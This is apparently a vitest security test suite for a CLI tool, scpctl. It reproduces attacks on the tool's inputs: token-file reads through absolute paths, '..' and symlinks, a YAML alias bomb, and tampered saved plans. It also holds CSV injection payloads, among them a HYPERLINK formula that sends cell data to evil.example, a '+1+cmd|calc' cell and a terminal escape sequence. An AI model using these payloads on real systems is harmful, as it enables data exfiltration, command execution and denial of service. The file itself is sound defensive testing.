// Trust boundaries (contract section 13), the inputs others write: a pull request's manifest and lists, and
// a saved plan handed between jobs. Each test is an attack reproduced on the code before the defence.
import { beforeEach, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { scpctl, type Emulator, useEmulator } from './harness.js';

/** A CI token that is also a valid bucket name (lower-case hex): the worst case for a leak. */
const HEX_TOKEN = '3f9a1c0de2b74a6f8e5d9c3b2a1f0e7d';
/** Another context's token in the config store. */
const OTHER_TOKEN = 'ctx-b-secret-9f8e7d6c5b4a';

let emu: Emulator;
let dir: string;
let env: Record<string, string | undefined>;
useEmulator(['--profile', 'finance', '--profile', 'legal'], (suite) => ({ emu, dir, env } = suite));

let work: string;
let tokenFile: string;
beforeEach(async () => {
  await emu.setProfile('finance', ['alpha-data']);
  await emu.setProfile('legal', ['legal-one']);
  await emu.clearRequests();
  work = join(dir, `work-${Math.random().toString(36).slice(2)}`);
  mkdirSync(join(work, 'repo', 'lists'), { recursive: true });
  tokenFile = join(work, 'ci-token');
  writeFileSync(tokenFile, `${HEX_TOKEN}\n`);
  writeFileSync(join(work, 'repo', 'lists', 'finance.txt'), 'alpha-data\nbravo-logs\n');
});

const run = (args: string[], extra: Record<string, string | undefined> = {}) => scpctl(args, { env: { ...env, ...extra }, cwd: work });

/** Nothing of the token, in any form, and no request at all. */
async function expectRefusedQuietly(r: { exitCode: number; stdout: string; stderr: string }, secrets: string[] = [HEX_TOKEN]): Promise<void> {
  expect(r.exitCode, r.stderr).toBe(2);
  for (const secret of secrets) {
    expect(r.stdout + r.stderr).not.toContain(secret);
    expect(r.stdout + r.stderr).not.toContain(secret.slice(0, 12));
  }
  expect(await emu.requests()).toEqual([]);
}

function manifest(files: string[], extra = ''): string {
  const path = join(work, 'repo', 'scpctl.yaml');
  writeFileSync(path, `profiles:\n  finance:\n    files: [${files.map((f) => JSON.stringify(f)).join(', ')}]\n${extra}`);
  return path;
}

describe('a manifest cannot read the runner\'s secrets', () => {
  it('an absolute files: path (the CI token file) is refused before it is read: no token, nothing sent', async () => {
    const r = await run(['apply', '-f', manifest([tokenFile]), '--dry-run'], { SCPCTL_TOKEN_FILE: tokenFile });
    await expectRefusedQuietly(r);
    expect(r.stderr).toMatch(/scpctl\.yaml:3: profile "finance": the file ".*ci-token" is an absolute path; it was not read \(--allow-outside-files reads it\)/);
  });

  it('a path that climbs out with .. is refused', async () => {
    const r = await run(['apply', '-f', manifest(['../../ci-token']), '--dry-run'], { SCPCTL_TOKEN_FILE: tokenFile });
    await expectRefusedQuietly(r);
    expect(r.stderr).toContain('climbs out of the manifest\'s folder with ".."');
  });

  it('a list file that is a symlink leading out of the folder is refused', async () => {
    symlinkSync(tokenFile, join(work, 'repo', 'lists', 'legal.txt'));
    const r = await run(['apply', '-f', manifest(['lists/finance.txt', 'lists/legal.txt']), '--dry-run'], { SCPCTL_TOKEN_FILE: tokenFile });
    await expectRefusedQuietly(r);
    expect(r.stderr).toContain('leads out of the manifest\'s folder through a symlink');
  });

  it('with --allow-outside-files the token file is still refused as a name, without showing it', async () => {
    const r = await run(['apply', '-f', manifest([tokenFile]), '--dry-run', '--allow-outside-files'], { SCPCTL_TOKEN_FILE: tokenFile });
    await expectRefusedQuietly(r);
    expect(r.stderr).toMatch(/ci-token:1: a name that looks like the API token \(not shown\)/);
  });

  it("the config store read as a list prints no context's token (every stored token is masked before input is read)", async () => {
    const config = join(dir, `config-${Math.random().toString(36).slice(2)}`);
    mkdirSync(config);
    const store = { currentContext: 'default', contexts: { default: { baseUrl: emu.url, token: emu.token }, b: { baseUrl: emu.url, token: OTHER_TOKEN } } };
    writeFileSync(join(config, 'config.json'), JSON.stringify(store, null, 2), { mode: 0o600 });
    const r = await run(['apply', '-f', manifest([join(config, 'config.json')]), '--dry-run', '--allow-outside-files'], {
      SCPCTL_CONFIG_DIR: config,
      SCPCTL_TOKEN: undefined,
    });
    await expectRefusedQuietly(r, [OTHER_TOKEN]);
    expect(r.stderr).toContain('a name that looks like the API token (not shown)');
  });

  it('a YAML alias bomb is refused at once (exit 2), not expanded', async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 9; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    const path = join(work, 'repo', 'bomb.yaml');
    writeFileSync(path, `${levels.join('\n')}\nprofiles:\n  finance:\n    buckets: *i\n`);
    const started = Date.now();
    const r = await run(['apply', '-f', path, '--dry-run']);
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/bomb\.yaml:2: YAML aliases \(\*name\) are not allowed in a manifest/);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(await emu.requests()).toEqual([]);
  });
});

describe('no input makes scpctl use more than about 200 MB', () => {
  it('the names of one command (every -f together, or a manifest and all its files) stop at 32 MiB', async () => {
    const parts = ['a.txt', 'b.txt'].map((name) => {
      const path = join(work, 'repo', 'lists', name);
      writeFileSync(path, '');
      truncateSync(path, 17 * 1024 * 1024); // sparse: a few ms to read
      return path;
    });
    const listed = await run(['buckets', 'append', 'finance', '-f', parts[0]!, '-f', parts[1]!, '--dry-run']);
    expect(listed.exitCode, listed.stderr).toBe(2);
    expect(listed.stderr).toContain('more than the input limit of 32 MiB for one command');
    const applied = await run(['apply', '-f', manifest(['lists/a.txt', 'lists/b.txt']), '--dry-run']);
    expect(applied.exitCode, applied.stderr).toBe(2);
    expect(applied.stderr).toContain('the manifest and its files take more than the input limit of 32 MiB');
    expect(await emu.requests()).toEqual([]);
  });
});

describe('bucket lists cannot carry the token', () => {
  it('sync -f with a list file turned into a symlink to the token file: exit 2, not shown, nothing sent', async () => {
    const list = join(work, 'repo', 'lists', 'sync.txt');
    symlinkSync(tokenFile, list);
    const r = await run(['buckets', 'sync', 'finance', '-f', list, '--dry-run'], { SCPCTL_TOKEN: HEX_TOKEN });
    await expectRefusedQuietly(r);
    expect(r.stderr).toContain(`${list}:1: a name that looks like the API token (not shown)`);
  });

  it('the token as an argument, or inside a longer name, is refused too', async () => {
    const r = await run(['buckets', 'append', 'finance', 'ok-name', `x${HEX_TOKEN}`, '--dry-run'], { SCPCTL_TOKEN: HEX_TOKEN });
    await expectRefusedQuietly(r);
    expect(r.stderr).toContain('arg 2: a name that looks like the API token (not shown)');
  });
});

describe('a saved plan applies only where it was made', () => {
  const plan = () => join(work, 'plan.json');
  async function savePlan(): Promise<Record<string, any>> {
    const r = await run(['apply', '-f', manifest(['lists/finance.txt']), '--dry-run', '--save-plan', plan()]);
    expect(r.exitCode, r.stderr).toBe(0);
    await emu.clearRequests();
    const saved = JSON.parse(readFileSync(plan(), 'utf8'));
    expect(JSON.stringify(saved)).not.toContain(emu.token);
    return saved;
  }

  it("another tenant's token behind the same URL: exit 2, nothing sent (the plan holds a salted scrypt hash, not the token)", async () => {
    const saved = await savePlan();
    expect(saved.tenant).toEqual({ baseUrl: emu.url, key: expect.stringMatching(/^scrypt:16384:8:1:[0-9a-f]{32}:[0-9a-f]{64}$/) });
    const r = await run(['apply', '--plan', plan()], { SCPCTL_TOKEN: 'tenant-b-token-0123456789' });
    await expectRefusedQuietly(r, ['tenant-b-token-0123456789']);
    expect(r.stderr).toContain('the plan was made with another token');
  });

  it('another context: exit 2 naming both contexts and base URLs', async () => {
    await savePlan();
    const config = join(work, 'config');
    mkdirSync(config);
    writeFileSync(join(config, 'config.json'), JSON.stringify({ contexts: { b: { baseUrl: emu.url, token: emu.token } } }), { mode: 0o600 });
    const r = await run(['apply', '--plan', plan(), '--context', 'b'], { SCPCTL_CONFIG_DIR: config });
    await expectRefusedQuietly(r, []);
    expect(r.stderr).toContain(`the plan was made for context "default" at ${emu.url}, and this run is context "b" at ${emu.url}`);
  });

  it.each([
    ['an upper-case name', 'UPPER_case!', /upper-case letters are not allowed/],
    ['an IP address', '192.168.1.1', /shaped like an IP address/],
    ['an invisible character', 'alpha-data\u200b', /character U\+200B is not allowed/],
  ])('an edited plan that adds %s is refused: exit 2, nothing sent', async (_what, name, reason) => {
    const saved = await savePlan();
    saved.profiles[0].add.push(name);
    writeFileSync(plan(), JSON.stringify(saved, null, 1));
    const r = await run(['apply', '--plan', plan()]);
    await expectRefusedQuietly(r, []);
    expect(r.stderr).toMatch(reason);
    expect(r.stderr).not.toContain('\u200b');
  });

  it('a FIFO or an oversized file as the plan is refused at once', async () => {
    const fifo = join(work, 'plan.fifo');
    execFileSync('mkfifo', [fifo]);
    const r = await scpctl(['apply', '--plan', fifo], { env, cwd: work, timeout: 10_000 });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toContain('not a regular file');
    const big = join(work, 'big.json');
    writeFileSync(big, '');
    truncateSync(big, 64 * 1024 * 1024 + 1);
    const large = await run(['apply', '--plan', big]);
    expect(large.exitCode).toBe(2);
    expect(large.stderr).toContain('more than a plan holds (64 MiB)');
    expect(await emu.requests()).toEqual([]);
  });

  it('--save-plan onto the manifest itself is refused and the manifest kept', async () => {
    const path = manifest(['lists/finance.txt']);
    const before = readFileSync(path, 'utf8');
    const r = await run(['apply', '-f', path, '--dry-run', '--save-plan', path]);
    await expectRefusedQuietly(r, []);
    expect(readFileSync(path, 'utf8')).toBe(before);
  });
});

describe("a mutation counts as applied only when the answer says so (contract section 5)", () => {
  it.each([
    ['{}', 7, /the answer does not say the change was applied/],
    ['[]', 7, /the answer does not say the change was applied/],
    ['"done"', 7, /the answer is JSON but neither an object nor an array/],
    ['{"status":"ok"}', 7, /the answer does not say the change was applied/],
    ['{"success":false,"message":"quota exceeded"}', 1, /appendToBucketList finance: quota exceeded/],
    ['{"result":"failed","msg":"profile not found"}', 4, /profile not found/],
  ])('an answer of %s is exit %i, never "✔ … sent"', async (body, code, message) => {
    await emu.faults([{ kind: 'wrong-shape', endpoint: 'bucket', op: 'appendToBucketList', body }]);
    const r = await run(['buckets', 'append', 'finance', 'new-bucket']);
    expect(r.exitCode, r.stderr).toBe(code);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).not.toContain('✔');
  });

  it('the documented answers still count: status success, or data without a status', async () => {
    await emu.faults([{ kind: 'wrong-shape', endpoint: 'bucket', op: 'appendToBucketList', body: '{"data":{"count":2}}' }]);
    const r = await run(['buckets', 'append', 'finance', 'new-bucket']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect((await run(['buckets', 'append', 'finance', 'other-bucket'])).exitCode).toBe(0);
  });
});

describe('names that print like other names (contract section 5)', () => {
  it('a zero-width space in a profile\'s name is shown as \\u200b in text, json and the table', async () => {
    await emu.setProfile('legal', ['alpha-data\u200b', 'legal-one']);
    for (const format of ['text', 'json', 'table']) {
      const r = await run(['buckets', 'view', 'legal', '-o', format]);
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stdout).toContain('alpha-data\\u200b');
      expect(r.stdout).not.toContain('\u200b');
    }
  });
});

describe('CSV from the service opens safely in a spreadsheet', () => {
  const body = JSON.stringify({
    status: 'success',
    data: [
      { app: '=HYPERLINK("http://evil.example/?"&A1,"open")', user: '+1+cmd|calc', note: '@SUM(A1)', dash: '-x', count: -5, text: 'x\u001b]0;owned\u0007y' },
    ],
  });

  it('formula cells get a leading quote, numbers stay, escapes are written visibly (piped)', async () => {
    await emu.faults([{ kind: 'wrong-shape', endpoint: 'report', body }]);
    const r = await run(['report', '--type', 'application', '-o', 'csv']);
    expect(r.exitCode, r.stderr).toBe(0);
    const [header, row] = r.stdout.split('\r\n');
    expect(header).toBe('app,user,note,dash,count,text');
    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'+1+cmd|calc,'@SUM(A1),'-x,-5,x\\u001b]0;owned\\u0007y`);
    expect(r.stdout).not.toContain('\u001b');
  });

  it('--csv-raw writes the cells as received; it goes with -o csv only', async () => {
    await emu.faults([{ kind: 'wrong-shape', endpoint: 'report', body }]);
    const r = await run(['report', '--type', 'application', '-o', 'csv', '--csv-raw']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toContain('"=HYPERLINK(');
    expect(r.stdout).toContain('x\u001b]0;owned\u0007y');
    const json = await run(['report', '--type', 'application', '-o', 'json', '--csv-raw']);
    expect(json.exitCode).toBe(2);
    expect(json.stderr).toContain('--csv-raw goes with -o csv');
  });
});
